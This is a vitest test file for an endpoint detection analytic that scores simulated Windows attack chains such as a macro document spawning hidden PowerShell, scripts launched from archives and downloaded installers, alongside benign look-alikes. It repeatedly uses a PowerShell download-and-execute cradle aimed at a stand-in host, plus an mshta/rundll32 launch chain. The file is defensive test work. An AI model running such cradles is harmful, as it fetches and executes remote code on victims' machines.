import { describe, expect, it } from 'vitest';
import { describeAnalytic, type LookAlike, type SampleStory } from '../testContract';
import {
  CHROME,
  CMD,
  callsOut,
  EDGE,
  findingOf,
  findingsOf,
  homeOf,
  mailCacheOf,
  OUTLOOK,
  POWERSHELL,
  pointsOf,
  RUNDLL32,
  SEVEN_ZIP,
  SYSTEM,
  SYSTEM32,
  statesOf,
  storyOf,
  type ToldStory,
  verdictOf,
  WORD,
  WSCRIPT,
} from '../testStory';

const CRADLE = `powershell.exe -w hidden -c "IEX(New-Object Net.WebClient).DownloadString('http://cdn-sync.top/a')"`;

/** Mail attachment → Word → hidden PowerShell with a download cradle → unusual destination in three seconds. */
function macroDocument(): ToldStory {
  const story = storyOf();
  const { s, as } = story;
  const outlook = as('user_app', () => s.starts(OUTLOOK));
  s.after('2m');
  const document = `${mailCacheOf(s)}\\Offer.docm`;
  as('file_arrival', () => {
    s.writes(outlook, document);
    s.marks(outlook, document);
  });
  s.after('20s');
  const word = as('user_app', () =>
    s.starts(WORD, { parent: outlook, commandLine: `"${WORD}" /n "${document}"` }),
  );
  s.after('6s');
  const shell = as('spawn', () => s.starts(POWERSHELL, { parent: word, commandLine: CRADLE }));
  s.after('3s');
  as('egress', () => callsOut(s, shell));
  return story;
}

/** A marked archive opened in 7-Zip, a script run out of it, an unusual destination in twenty seconds. */
function scriptInArchive(): ToldStory {
  const story = storyOf();
  const { s, as } = story;
  const edge = s.starts(EDGE);
  s.after('2m');
  const zip = `${homeOf(s)}\\Downloads\\bundle.zip`;
  as('file_arrival', () => {
    s.writes(edge, zip);
    s.marks(edge, zip, { hostUrl: 'https://share.example/bundle.zip' });
  });
  s.after('15s');
  const archiver = as('user_app', () => s.starts(SEVEN_ZIP, { commandLine: `"${SEVEN_ZIP}" "${zip}"` }));
  s.after('8s');
  const script = `${homeOf(s)}\\AppData\\Local\\Temp\\7zO4C1D2A3B\\report.js`;
  as('file_arrival', () => s.writes(archiver, script));
  const host = as('spawn', () =>
    s.starts(WSCRIPT, { parent: archiver, commandLine: `"${WSCRIPT}" "${script}"` }),
  );
  s.after('19s');
  as('egress', () => callsOut(s, host));
  return story;
}

/** A program saved by the browser and double-clicked: the only link is the file. */
function downloadedInstaller(signature?: string, publisher = 'Zoom Communications, Inc.'): ToldStory {
  const story = storyOf();
  const { s, as } = story;
  const edge = s.starts(EDGE);
  s.after('2m');
  const program = `${homeOf(s)}\\Downloads\\AcmeSetup.exe`;
  as('file_arrival', () => {
    s.writes(edge, program);
    s.marks(edge, program, { hostUrl: 'https://acme.example/AcmeSetup.exe' });
  });
  s.after('20s');
  const setup = as('spawn', () => s.starts(program));
  if (signature !== undefined)
    s.tells('image_load', setup, {
      'dll.path': program,
      'dll.code_signature.status': signature,
      'process.code_signature.subject_name': publisher,
    });
  s.after('40s');
  as('egress', () => {
    s.resolves(setup, 'acme.example', ['198.51.100.9']);
    s.connects(setup, '198.51.100.9', 443);
  });
  return story;
}

const samples: readonly SampleStory[] = [
  {
    name: 'a document out of a mail that starts PowerShell',
    tell: macroDocument,
    points: { U1: 5, A2: 10, S1: 30, S4: 15, E1: 20, K: 5 },
    verdict: ['complete', 85, 'critical'],
    lineage: ['spawn'],
    tooLate: { egress: 6 },
    partialWithout: ['file_arrival', 'egress'],
  },
  {
    name: 'a script in an archive',
    tell: scriptInArchive,
    points: { U1: 5, A1: 15, A2: 10, A3: 8, A4: 10, S2: 20, E1: 20, K: 5 },
    verdict: ['complete', 93, 'critical'],
    lineage: [],
    tooLate: { egress: 6 },
    namedByAnchor: ['user_app'],
    partialWithout: ['file_arrival', 'egress'],
  },
];

const telling = (
  tell: (story: ToldStory) => void,
  without: readonly 'image_load'[] = [],
): (() => ToldStory) => {
  return () => {
    const story = storyOf({ without });
    tell(story);
    return story;
  };
};

const lookAlikes: readonly LookAlike[] = [
  {
    name: "a signed installer that the user fetched is lowered to 'low'",
    for: 'N1',
    expect: { atMost: 39 },
    tell: () => downloadedInstaller('Valid'),
  },
  {
    name: 'a network on the allow list is lowered',
    for: 'N2',
    tuned: { EgressAllowList: ['198.51.100.0/24'] },
    expect: { atMost: 45 },
    tell: () => downloadedInstaller(),
  },
  {
    name: "a destination in the environment's own range is lowered",
    for: 'N5',
    lists: { own_domains: ['acme.example'] },
    expect: { atMost: 55 },
    tell: () => downloadedInstaller(),
  },
  {
    name: 'a document that led to a tool under a support tool is lowered to 40 at most',
    for: 'N3s',
    expect: { atMost: 40 },
    tell: telling(({ s }) => {
      const support = s.starts('C:\\Program Files\\TeamViewer\\TeamViewer.exe');
      const word = s.starts(WORD, {
        parent: support,
        commandLine: `"${WORD}" "${homeOf(s)}\\Documents\\a.docx"`,
      });
      const shell = s.starts(CMD, { parent: word, commandLine: `${CMD} /c ipconfig` });
      s.connects(shell, '10.20.1.40', 443);
    }),
  },
  {
    name: 'a destination on the allow list is lowered',
    for: 'N2',
    tuned: { EgressAllowList: ['acme.example'] },
    expect: { atMost: 45 },
    tell: () => downloadedInstaller(),
  },
  {
    name: 'a support tool that sends a program through the browser is lowered',
    for: 'N3',
    expect: { atMost: 39 },
    tell: telling(({ s }) => {
      const support = s.starts('C:\\Program Files\\TeamViewer\\TeamViewer.exe');
      const edge = s.starts(EDGE, { parent: support });
      const shell = s.starts(POWERSHELL, {
        parent: edge,
        commandLine: 'powershell.exe -w hidden -c ipconfig',
      });
      s.resolves(shell, 'mail.corp.example', ['10.20.1.40']);
      s.connects(shell, '10.20.1.40', 443);
    }),
  },
  {
    name: 'a picture out of a mail in the photo viewer is suppressed',
    for: 'benign_office_helpers',
    expect: 'suppressed',
    tell: telling(({ s }) => {
      const outlook = s.starts(OUTLOOK);
      const picture = `${mailCacheOf(s)}\\site.png`;
      s.writes(outlook, picture);
      s.marks(outlook, picture);
      s.starts(RUNDLL32, {
        parent: outlook,
        commandLine: `"${RUNDLL32}" "C:\\Program Files\\Windows Photo Viewer\\PhotoViewer.dll", ImageView_Fullscreen ${picture}`,
      });
    }),
  },
  {
    name: "a browser's native messaging host is suppressed",
    for: 'browser_helpers',
    expect: 'suppressed',
    tell: telling(({ s }) => {
      const chrome = s.starts(CHROME);
      const host = s.starts(CMD, {
        parent: chrome,
        commandLine: `${CMD} /d /c "C:\\Program Files\\Vault\\host.exe" chrome-extension://abcdef/ --parent-window=0 < \\\\.\\pipe\\chrome.nativeMessaging.in`,
      });
      s.resolves(host, 'vault.example', ['198.51.100.80']);
      s.connects(host, '198.51.100.80', 443);
    }),
  },
  {
    name: 'Word prints',
    expect: 'suppressed',
    tell: telling(({ s }) => {
      const word = s.starts(WORD);
      s.starts(`${SYSTEM32}\\splwow64.exe`, { parent: word });
      s.starts(RUNDLL32, {
        parent: word,
        commandLine: `${RUNDLL32} ${SYSTEM32}\\spool\\DRIVERS\\x64\\3\\unires.dll,Show`,
      });
    }),
  },
  {
    name: 'a meeting client in the profile starts its own parts, which talk',
    expect: 'nothing',
    tell: telling(({ s }) => {
      const bin = `${homeOf(s)}\\AppData\\Roaming\\Zoom\\bin`;
      const chrome = s.starts(CHROME);
      const zoom = s.starts(`${bin}\\Zoom.exe`, {
        parent: chrome,
        commandLine: `"${bin}\\Zoom.exe" "--url=zoommtg://zoom.example/join?confno=1"`,
      });
      s.connects(zoom, '198.51.100.70', 8801);
      const part = s.starts(`${bin}\\CptHost.exe`, { parent: zoom });
      s.connects(part, '198.51.100.71', 8801);
    }),
  },
  {
    name: "a chat client's updater",
    expect: 'nothing',
    tell: telling(({ s }) => {
      const slack = s.starts(`${homeOf(s)}\\AppData\\Local\\Discord\\app-1.0.9\\Discord.exe`);
      const update = s.starts(`${homeOf(s)}\\AppData\\Local\\Discord\\Update.exe`, {
        parent: slack,
        commandLine: '"Update.exe" --update https://updates.vendor.example/releases',
      });
      s.resolves(update, 'updates.vendor.example', ['198.51.100.60']);
      s.connects(update, '198.51.100.60', 443);
      const other = `${homeOf(s)}\\AppData\\Local\\ThunderMail`;
      const mail = s.starts(`${other}\\app-3\\thunderbird.exe`);
      const helper = s.starts(`${other}\\updater.exe`, { parent: mail });
      s.connects(helper, '198.51.100.61', 443);
    }),
  },
  {
    name: "the browser's own update in Program Files",
    expect: 'nothing',
    tell: telling(({ s }) => {
      const update = s.starts('C:\\Program Files (x86)\\Microsoft\\EdgeUpdate\\MicrosoftEdgeUpdate.exe', {
        parent: s.services,
        user: SYSTEM,
      });
      const setup = s.starts('C:\\Program Files (x86)\\Microsoft\\EdgeUpdate\\Install\\setup.exe', {
        parent: update,
        user: SYSTEM,
        commandLine: 'setup.exe --msedge --verbose-logging',
      });
      s.connects(setup, '198.51.100.62', 443);
    }),
  },
  {
    name: 'software distribution runs scripts and installers as the system',
    expect: 'nothing',
    tell: telling(({ s }) => {
      const agent = s.starts(
        'C:\\Program Files (x86)\\Microsoft Intune Management Extension\\AgentExecutor.exe',
        {
          parent: s.services,
          user: SYSTEM,
        },
      );
      const shell = s.starts(POWERSHELL, {
        parent: agent,
        user: SYSTEM,
        commandLine:
          'powershell.exe -NoProfile -executionPolicy bypass -file "C:\\Program Files (x86)\\Microsoft Intune Management Extension\\Content\\detect.ps1"',
      });
      s.connects(shell, '198.51.100.63', 443);
      s.starts(`${SYSTEM32}\\msiexec.exe`, {
        parent: agent,
        user: SYSTEM,
        commandLine: 'msiexec /i C:\\Windows\\IMECache\\app.msi /qn',
      });
    }),
  },
  {
    name: 'a developer with Word open runs his own script, which talks',
    expect: 'nothing',
    tell: telling(({ s }) => {
      s.starts(WORD, { commandLine: `"${WORD}" "${homeOf(s)}\\Documents\\plan.docx"` });
      s.after('10s');
      const code = s.starts('C:\\Program Files\\Microsoft VS Code\\Code.exe');
      const shell = s.starts(POWERSHELL, { parent: code });
      const tool = s.starts('C:\\Python312\\python.exe', {
        parent: shell,
        commandLine: `python.exe ${homeOf(s)}\\Documents\\report\\fetch.py`,
      });
      s.resolves(tool, 'packages.vendor.example', ['192.0.2.80']);
      s.connects(tool, '192.0.2.80', 443);
    }),
  },
  {
    name: 'Teams and Outlook with their web views',
    expect: 'nothing',
    tell: telling(({ s }) => {
      const teams = s.starts('C:\\Program Files\\WindowsApps\\MSTeams_24\\ms-teams.exe');
      const view = s.starts(
        'C:\\Program Files (x86)\\Microsoft\\EdgeWebView\\Application\\msedgewebview2.exe',
        {
          parent: teams,
          commandLine: 'msedgewebview2.exe --embedded-browser-webview=1 --type=utility',
        },
      );
      s.connects(view, '198.51.100.64', 443);
      s.starts('C:\\Program Files\\WindowsApps\\MSTeams_24\\ms-teamsupdate.exe', { parent: teams });
    }),
  },
  {
    name: 'an unpacked archive whose text the user reads',
    expect: 'nothing',
    tell: telling(({ s }) => {
      const zip = `${homeOf(s)}\\Downloads\\notes.zip`;
      const edge = s.starts(EDGE);
      s.writes(edge, zip);
      s.marks(edge, zip);
      const archiver = s.starts(SEVEN_ZIP, { commandLine: `"${SEVEN_ZIP}" "${zip}"` });
      const text = `${homeOf(s)}\\AppData\\Local\\Temp\\7zO1\\notes.txt`;
      s.writes(archiver, text);
      s.starts(`${SYSTEM32}\\notepad.exe`, { parent: archiver, commandLine: `notepad.exe ${text}` });
    }),
  },
];

describeAnalytic({ analytic: 'AN1314', samples, lookAlikes });

describe('AN1314: the shapes of the specification', () => {
  it('scores an allowed, signed installer with 32', () => {
    const finding = findingOf(downloadedInstaller('Valid').s.events(), 'AN1314');
    expect(pointsOf(finding)).toEqual({ A1: 15, A2: 10, A4: 10, S3: 12, E3: 5, K: 5, N1: -25 });
    expect(verdictOf(finding)).toEqual(['complete', 32, 'low']);
  });

  it('takes an unrecorded signature for unknown, not for missing', () => {
    expect(pointsOf(findingOf(downloadedInstaller().s.events(), 'AN1314'))).toMatchObject({ S5: 8 });
  });

  it('is partial and says what is blind when there are only process starts', () => {
    const { s } = storyOf({ without: ['file_create', 'file_stream', 'network_connect', 'dns_query'] });
    const word = s.starts(WORD, { commandLine: `"${WORD}" /n "${homeOf(s)}\\Downloads\\offer.docm"` });
    s.starts(POWERSHELL, { parent: word, commandLine: CRADLE });
    const finding = findingOf(s.events(), 'AN1314');
    expect(verdictOf(finding)).toEqual(['partial', 50, 'medium']);
    expect(statesOf(finding)).toEqual({
      user_app: 'matched',
      file_arrival: 'blind',
      spawn: 'matched',
      egress: 'blind',
      tool: 'absent',
    });
  });

  /** `maldoc_mshta_via_shellbrowserwind_rundll32` of ANALYTICS B.7, told again: no file and no network events. */
  it('is a partial of 35 when Word only had Explorer start the tool over COM', () => {
    const { s } = storyOf({ without: ['file_create', 'file_stream', 'network_connect', 'dns_query'] });
    const word = s.starts(WORD, { commandLine: `"${WORD}" "${homeOf(s)}\\Documents\\offer.doc"` });
    s.after('10s');
    s.opensKey(word, '\\REGISTRY\\MACHINE\\SOFTWARE\\Classes\\CLSID\\{c08afd90-f2a1-11d1-8455-00a0c91f3880}');
    s.after('500ms');
    const mshta = s.starts(`${SYSTEM32}\\mshta.exe`, {
      commandLine: 'mshta.exe C:\\Users\\Public\\memo.hta',
    });
    s.after('1s');
    s.starts(RUNDLL32, { parent: mshta, commandLine: 'rundll32.exe C:\\Users\\Public\\memo.jpg,run' });
    const finding = findingOf(s.events(), 'AN1314');
    expect(pointsOf(finding)).toEqual({ U1: 5, S1: 30 });
    expect(verdictOf(finding)).toEqual(['partial', 35, 'low']);
    expect(statesOf(finding)).toMatchObject({ file_arrival: 'blind', egress: 'blind' });
  });

  it('does not lower an installer whose publisher is not known, however valid its signature', () => {
    const finding = findingOf(downloadedInstaller('Valid', 'Unheard-of Ltd').s.events(), 'AN1314');
    expect(pointsOf(finding)).not.toHaveProperty('N1');
    expect(pointsOf(finding)).not.toHaveProperty('S5');
  });

  it('counts an unsigned program in a place of the user’s own more than one of unknown signature', () => {
    expect(pointsOf(findingOf(downloadedInstaller('unsigned').s.events(), 'AN1314'))).toMatchObject({
      S5u: 15,
    });
  });

  it('counts a crash of the reader before, and the enabling of content as the click', () => {
    const { s } = storyOf();
    const word = s.starts(WORD);
    s.sets(
      word,
      'HKU\\S-1-5-21-1\\Software\\Microsoft\\Office\\16.0\\Word\\Security\\Trusted Documents\\TrustRecords\\a',
    );
    s.tells('app_crash', undefined, { 'process.executable': WORD });
    s.after('20s');
    const shell = s.starts(POWERSHELL, { parent: word, commandLine: CRADLE });
    callsOut(s, shell);
    expect(pointsOf(findingOf(s.events(), 'AN1314'))).toMatchObject({ U1: 5, U2: 10, S1: 30 });
  });

  it('holds a chain by time and user only at 69', () => {
    const { s } = storyOf();
    const edge = s.starts(EDGE);
    const script = `${homeOf(s)}\\Downloads\\tool.ps1`;
    s.tells('file_create', undefined, { 'file.path': script });
    s.tells('file_stream', undefined, {
      'file.path': `${script}:Zone.Identifier`,
      'file.zone_identifier': 3,
    });
    s.after('1m');
    s.starts(WORD, { commandLine: `"${WORD}" "${homeOf(s)}\\Downloads\\offer.docm"` });
    s.after('8s');
    const shell = s.starts(POWERSHELL, { commandLine: `powershell.exe -w hidden -f ${script}` });
    s.after('1s');
    callsOut(s, shell);
    s.ends(edge);
    const finding = findingOf(s.events(), 'AN1314');
    expect(finding.score).toBeLessThanOrEqual(69);
    expect(finding.weakestLink.strength).toBe('weak');
  });

  it('follows a mounted or nested archive only as far as its names tell', () => {
    const { s } = storyOf();
    const edge = s.starts(EDGE);
    const zip = `${homeOf(s)}\\Downloads\\docs.zip`;
    s.writes(edge, zip);
    s.marks(edge, zip);
    s.after('20s');
    const script = `${homeOf(s)}\\AppData\\Local\\Temp\\Temp1_docs.zip\\read me.js`;
    s.writes(s.explorer, script);
    const host = s.starts(WSCRIPT, { commandLine: `"${WSCRIPT}" "${script}"` });
    s.after('2s');
    callsOut(s, host);
    const finding = findingOf(s.events(), 'AN1314');
    expect(pointsOf(finding)).toEqual({ A1: 15, A2: 10, A3: 8, A4: 10, A5: 10, S3: 12, E1: 20, K: 5 });
    expect(finding.status).toBe('complete');
  });

  it('says nothing of a shell that the user opened', () => {
    const { s } = storyOf();
    const shell = s.starts(CMD);
    s.starts(`${SYSTEM32}\\curl.exe`, {
      parent: shell,
      commandLine: 'curl https://files.example/a.zip -o a.zip',
    });
    expect(findingsOf(s.events(), 'AN1314')).toEqual([]);
  });
});
